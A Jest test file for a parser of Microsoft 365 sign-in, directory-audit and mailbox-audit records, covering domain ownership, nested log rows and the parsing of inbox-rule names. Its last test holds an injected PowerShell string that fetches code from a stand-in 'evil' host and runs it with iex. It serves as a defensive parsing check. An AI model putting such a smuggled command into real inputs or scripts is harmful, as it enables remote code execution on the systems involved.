import { describe, expect, it } from '@jest/globals';
import { readingOf } from './read-one.ts';

const signIn = {
  id: '77777777-0000-4000-8000-000000000001',
  createdDateTime: '2026-03-02T09:00:00Z',
  userPrincipalName: 'ann@example.com',
  userId: '77777777-0000-4000-8000-00000000000a',
  ipAddress: '192.0.2.7',
  userType: 'member',
  homeTenantId: 'home',
  resourceTenantId: 'home',
  status: { errorCode: 0 },
};
const audit = {
  id: 'Directory_1',
  activityDateTime: '2026-03-02T09:00:00Z',
  activityDisplayName: 'Update user',
  result: 'success',
  initiatedBy: { user: { id: signIn.userId, userPrincipalName: 'ann@example.com' } },
};
const forwarding = {
  Id: '77777777-0000-4000-8000-000000000002',
  CreationTime: '2026-03-02T09:00:00',
  Operation: 'Set-Mailbox',
  RecordType: 1,
  UserType: 2,
  OrganizationName: 'example.onmicrosoft.com',
  UserId: 'ann@example.com',
  Parameters: [{ Name: 'ForwardingSmtpAddress', Value: 'smtp:x@partner.example' }],
};

describe('the domains of members', () => {
  it.each<[string, object, readonly string[]]>([
    ['a member who signs in at home', signIn, ['example.com']],
    ['a member who signs in to another tenant', { ...signIn, resourceTenantId: 'other' }, []],
    ['a guest', { ...signIn, userType: 'guest' }, []],
    ['a failed sign-in', { ...signIn, status: { errorCode: 50126 } }, []],
    ['somebody who changes the directory', audit, ['example.com']],
    [
      'a guest who redeems an invitation',
      { ...audit, activityDisplayName: 'Redeem external user invite' },
      [],
    ],
    ['somebody who sets a mailbox', forwarding, ['example.com', 'example.onmicrosoft.com']],
    ['somebody of another organisation who sets a mailbox', { ...forwarding, ExternalAccess: true }, []],
    ['nobody in particular', { ...forwarding, UserId: 'ann' }, []],
  ])('of %s', (_who, record, domains) => {
    expect(readingOf(record).ownDomains).toEqual(domains);
  });
});

describe('a record inside another', () => {
  it.each<[string, object]>([
    [
      'Graph’s audit log query',
      { id: 'row', createdDateTime: 'x', auditLogRecordType: 'x', auditData: forwarding },
    ],
    ['Search-UnifiedAuditLog as JSON', { Identity: 'row', AuditData: JSON.stringify(forwarding) }],
  ])('of %s is read', (_where, row) => {
    expect(readingOf(row)).toEqual(readingOf(forwarding));
  });
});

describe('a rule whose name anybody may choose', () => {
  it('ends the path of its mailbox at the first backslash', () => {
    const rule = {
      ...forwarding,
      Operation: 'New-InboxRule',
      ObjectId: String.raw`EUR/Org/ann\x"; iwr evil|iex #\y`,
    };

    expect(readingOf(rule).event).toMatchObject({ mailbox: 'ann', name: String.raw`x"; iwr evil|iex #\y` });
  });
});
